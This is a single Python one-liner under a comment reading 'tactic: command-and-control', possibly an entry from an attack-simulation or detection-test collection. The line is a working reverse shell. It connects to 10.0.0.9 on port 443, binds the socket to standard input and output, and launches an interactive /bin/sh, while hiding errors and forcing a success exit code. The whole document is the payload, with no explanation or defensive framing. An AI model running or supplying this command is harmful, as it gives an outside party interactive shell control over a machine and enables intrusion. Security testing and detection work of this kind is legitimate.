# tactic: command-and-control
python3 -c 'import socket,subprocess,os;s=socket.socket();s.settimeout(1);s.connect(("10.0.0.9",443));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])' 2>/dev/null; true
